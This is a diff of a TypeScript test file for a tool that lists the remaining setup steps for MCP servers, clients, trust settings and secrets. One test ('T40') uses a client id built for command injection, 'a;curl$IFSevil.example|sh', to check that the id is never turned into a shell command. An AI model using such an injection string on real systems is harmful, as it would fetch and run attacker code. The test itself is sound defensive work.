@@ -68,17 +68,66 @@ describe('what remains to be done by hand', () => {
     assert.deepEqual(heads(found), ['guard_here', 'client_here code', 'secret code', 'set_up code']);
     assert.equal(
       found[0]?.text,
-      'servers:\n  wiki: { upstream: { http: URL }, scopes: { "read": {}, "write": { risk: high }, "say:all": { risk: medium } }, tools: { "*": "write" } }',
+      'servers:\n  "wiki": { upstream: { http: URL }, scopes: { "read": {}, "write": { risk: high }, "say:all": { risk: medium } }, tools: { "*": "write" } }',
     );
-    assert.ok(found[1]?.text?.endsWith('credence client secret new ras code'));
+    assert.equal(found[1]?.text, 'clients:\n  "code": {}\n\ncredence client secret new ras code');
   });
 
   test('here: nothing that can be seen to be done', () => {
     const done = resource(`
 servers: { wiki: { upstream: { http: "http://localhost:1/mcp" }, scopes: { read: {}, write: { risk: high } } } }
 clients: { code: {} }
+trust: { local: { clients: [code], accounts: known, keys: discovery } }
 `);
     assert.deepEqual(heads(steps('wiki', { resource: done, secrets: [{ clientId: 'code' }] })), ['set_up code']);
     assert.deepEqual(heads(steps('wiki')), ['secret code', 'set_up code'], 'where nothing is guarded, of that nothing');
+  });
+
+  const wiki = 'servers: { wiki: { upstream: { http: "http://localhost:1/mcp" }, scopes: { read: {} } } }';
+  const of = (clients: string, more: string, installed = installation) => {
+    const own = access(`servers: { wiki: { local: wiki, scopes: { read: {} } } }\nclients: { ${clients} }\n`);
+    const server = own.servers.get('wiki');
+    assert.ok(server);
+    const around = { installation: installed, resource: resource(`${wiki}\n${more}\n`), secrets: [] };
+    return remainingSteps(own, server, around).filter(({ about }) => about === 'client_here');
+  };
+  const code = 'code: { redirect_uris: [http://localhost/a], client_ids: { local: code } }';
+
+  test('here: a client that the resource document knows and lets nobody speak for', () => {
+    const trusts: [trust: string, left: number][] = [
+      ['', 1],
+      ['trust: { local: { clients: [other], accounts: known, keys: discovery } }', 1],
+      ['trust: { https://other.example: { clients: [code], accounts: known, keys: discovery } }', 1],
+      ['trust: { local: { clients: [other, code], accounts: known, keys: discovery } }', 0],
+      [`trust: { ${installation.idp}: { clients: [code], accounts: known, keys: discovery } }`, 0],
+    ];
+    for (const [trust, left] of trusts) {
+      const found = of(code, `clients: { code: {}, other: {} }\n${trust}`);
+      assert.equal(found.length, left, trust);
+      if (left === 0) continue;
+      assert.equal(found[0]?.text, '"code"');
+      assert.match(found[0]?.words ?? '', /trust\.local\.clients/);
+    }
+  });
+
+  test('here: a client that is known by its metadata document has no secret, whatever its entry is called', () => {
+    const zed = 'zed: { metadata: https://zed.dev/c.json, client_ids: { local: https://zed.dev/c.json } }';
+    assert.deepEqual(
+      of(zed, '').map(({ text }) => text),
+      ['clients:\n  "zed": { metadata: "https://zed.dev/c.json" }'],
+    );
+    const known = 'clients: { editor: { metadata: https://zed.dev/c.json } }';
+    assert.deepEqual(
+      of(zed, `${known}\ntrust: { local: { clients: [editor], accounts: known, keys: discovery } }`),
+      [],
+    );
+    assert.equal(of(zed, known)[0]?.text, '"editor"');
+  });
+
+  test('T40: an id that is no name is no word of a command', () => {
+    const evil = 'a;curl$IFSevil.example|sh';
+    const [found] = of(`code: { redirect_uris: [http://localhost/a], client_ids: { local: '${evil}' } }`, '');
+    assert.equal(found?.text, null);
+    assert.ok(!JSON.stringify(found).includes('evil'));
   });
 });
